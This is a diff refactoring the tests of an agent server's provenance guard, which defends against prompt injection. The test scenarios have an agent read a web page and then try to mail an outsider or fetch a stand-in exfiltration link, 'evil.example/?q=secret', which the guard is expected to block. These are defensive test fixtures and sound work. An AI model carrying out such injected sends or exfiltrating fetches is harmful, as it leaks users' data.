@@ -23,7 +23,6 @@ from agentserver.core.records.wording import WORDING
 from agentserver.core.state.approvals import Answer as Said
 from agentserver.core.state.approvals import ApprovalAnswer
 from agentserver.core.state.principals import Principal, Trust
-from agentserver.guards.builtin import PeersGuard
 from agentserver.guards.intents import IntentRewriter
 from agentserver.guards.lineage import memory as lineage_memory
 from agentserver.guards.lineage.guard import LineageGuard, TrustSettings
@@ -37,6 +36,7 @@ from agentserver.provenance import Call, Ledger, Mode, Observation, Policy, judg
 from agentserver.provenance.evidence.labels import Role, Standing
 from agentserver.provenance.policy.declarations import Effect, PlanSource, Rule, SinkRule
 from tests.core.paper import Ask, Note, Paper, errors, listener, rules
+from tests.guards.lineage.watched import watch_listeners
 
 
 @xmlify
@@ -126,9 +126,8 @@ def story(policy=BASE, handlers=None, trusted=None, principal="console", **more)
         listener("helper", "post", payloads=(Ask, Note, Tour, Aim)),
         listener("post", payloads=(Letter,)),
     ]
-    made = rules(*agents, payloads=PAYLOADS)
-    guard = BothWays(trusted or TrustSettings(policy, **more), made.blueprint.listeners, made.codecs)
-    shop = rules(*agents, payloads=PAYLOADS, guards=[PeersGuard(), guard])
+    trusted = trusted or TrustSettings(policy, **more)
+    shop = watch_listeners(trusted, *agents, payloads=PAYLOADS, kind=BothWays)
     known = {
         "agent": reads(Letter(EVE, "hello")),
         "web": lambda call: HandlerResponse.respond(Note(PAGE)),
@@ -147,6 +146,17 @@ def reads(*then):
         if isinstance(call.payload, Note) and call.metadata.from_id == "web":
             return [HandlerResponse(payload, "post") for payload in then]
         return HandlerResponse.respond(Note("done"))
+
+    return handle
+
+
+def send_after_reading(response):
+    """Ask the web, and send a response after its answer."""
+
+    def handle(call):
+        if isinstance(call.payload, Ask):
+            return HandlerResponse(Ask("read"), "web")
+        return response if call.metadata.from_id == "web" else None
 
     return handle
 
@@ -307,13 +317,7 @@ def test_the_principals_own_order_is_held_to_the_deny_list_alone():
 def test_an_agents_words_vouch_for_nothing():
     """The helper is no source; a value that it made up is still nobody's."""
     handlers = {
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(Note("use carol@else.example"), "helper")
-            if call.metadata.from_id == "web"
-            else None
-        ),
+        "agent": send_after_reading(HandlerResponse(Note("use carol@else.example"), "helper")),
         "helper": lambda call: HandlerResponse(Letter("carol@else.example", "x"), "post"),
     }
     p = told(story(handlers=handlers))
@@ -323,13 +327,7 @@ def test_an_agents_words_vouch_for_nothing():
 
 def test_the_path_across_agents_is_reported():
     handlers = {
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(Note(f"tell {EVE}"), "helper")
-            if call.metadata.from_id == "web"
-            else None
-        ),
+        "agent": send_after_reading(HandlerResponse(Note(f"tell {EVE}"), "helper")),
         "helper": lambda call: (
             HandlerResponse(Letter(EVE, "x"), "post") if isinstance(call.payload, Note) else None
         ),
@@ -355,13 +353,7 @@ def test_the_payloads_own_marks_count():
     """``sender`` is declared a directory by the type of the payload; ``text`` is the stranger's."""
     handlers = {
         "web": lambda call: HandlerResponse.respond(Letters("ann@corp.example", PAGE, ["c-1"])),
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(Letter("ann@corp.example", "x"), "post")
-            if isinstance(call.payload, Letters)
-            else None
-        ),
+        "agent": send_after_reading(HandlerResponse(Letter("ann@corp.example", "x"), "post")),
     }
     p = told(story(handlers=handlers))
     assert p.seen("post") == [Letter("ann@corp.example", "x")]
@@ -397,16 +389,8 @@ def crash(call):
 
 
 def test_a_link_that_nobody_wrote_is_not_fetched():
-    handlers = {
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(Get("http://evil.example/?q=secret"), "web")
-            if call.metadata.from_id == "web"
-            else None
-        )
-    }
-    p = told(story(handlers=handlers))
+    link = HandlerResponse(Get("http://evil.example/?q=secret"), "web")
+    p = told(story(handlers={"agent": send_after_reading(link)}))
     assert p.seen("web") == [Ask("read")]
     assert "constructed link" in details(p, Event.REFUSED)[0]
 
@@ -431,16 +415,7 @@ OUT = "https://evil.example/?q=secret"
 )
 def test_a_fetch_is_an_exit_whatever_its_field_is_called(to, payload, passes):
     """In an attribute, nested, in a list, in two fields; a declared destination even at a listener that nobody declared."""
-    handlers = {
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(payload, to)
-            if call.metadata.from_id == "web"
-            else None
-        )
-    }
-    p = told(story(handlers=handlers))
+    p = told(story(handlers={"agent": send_after_reading(HandlerResponse(payload, to))}))
     assert (payload in p.seen(to)) is passes
 
 
@@ -535,11 +510,7 @@ def planned_story(planners):
         listener("post", payloads=(Letter,)),
     ]
     policy = replace(BASE, plan=PlanSource.REQUIRED, allow=("@corp.example",))
-    made = rules(*agents, payloads=PAYLOADS)
-    guard = LineageGuard(
-        TrustSettings(policy, planners=frozenset(planners)), made.blueprint.listeners, made.codecs
-    )
-    shop = rules(*agents, payloads=PAYLOADS, guards=[PeersGuard(), guard])
+    shop = watch_listeners(TrustSettings(policy, planners=frozenset(planners)), *agents, payloads=PAYLOADS)
 
     def agent(call):
         return (
@@ -553,15 +524,13 @@ def planned_story(planners):
 
 
 def test_a_planner_fixes_the_plan():
-    p = planned_story({"planner"})
-    p.ask("write to bob", "planner")
+    p = planned_story({"planner"}).ask("write to bob", "planner")
     assert p.seen("post") == [Letter("bob@corp.example", "x")]
     assert memory(p).ledger.plan.steps[0].sink == "post"
 
 
 def test_nobody_else_does():
-    p = planned_story(set())
-    p.ask("write to bob", "planner")
+    p = planned_story(set()).ask("write to bob", "planner")
     assert p.seen("post") == []
     assert "no plan was made" in details(p, Event.REFUSED)[0]
 
@@ -617,13 +586,7 @@ def test_a_quarantined_listener_cannot_send_open_types():
 def test_a_quarantined_listener_writes_no_open_types_to_a_sink():
     """Not even where the policy would let its words pass."""
     handlers = {
-        "agent": lambda call: (
-            HandlerResponse(Ask("read"), "web")
-            if isinstance(call.payload, Ask)
-            else HandlerResponse(Note("urgent?"), "helper")
-            if call.metadata.from_id == "web"
-            else None
-        ),
+        "agent": send_after_reading(HandlerResponse(Note("urgent?"), "helper")),
         "helper": lambda call: (
             HandlerResponse(Letter(EVE, PAGE), "post") if call.metadata.from_id == "agent" else None
         ),
@@ -857,10 +820,7 @@ def hand_over(said, policy=BASE, words="Read the page and tell me.", page=PAGE, 
         listener("web", payloads=(Ask,)),
         listener("post", payloads=(Task,)),
     ]
-    payloads = (*PAYLOADS, Handoff)
-    made = rules(*agents, payloads=payloads)
-    guard = LineageGuard(TrustSettings(policy, planners=planners), made.blueprint.listeners, made.codecs)
-    shop = rules(*agents, payloads=payloads, guards=[PeersGuard(), guard])
+    shop = watch_listeners(TrustSettings(policy, planners=planners), *agents, payloads=(*PAYLOADS, Handoff))
     to = Parameter("to", Lexical(("[a-z.]{1,20}@[a-z.]{1,20}",), (), 0, 60))
     project = Parameter("project", Lexical(("[a-z]{1,20}",), (), 0, 20))
     known = vocabulary(
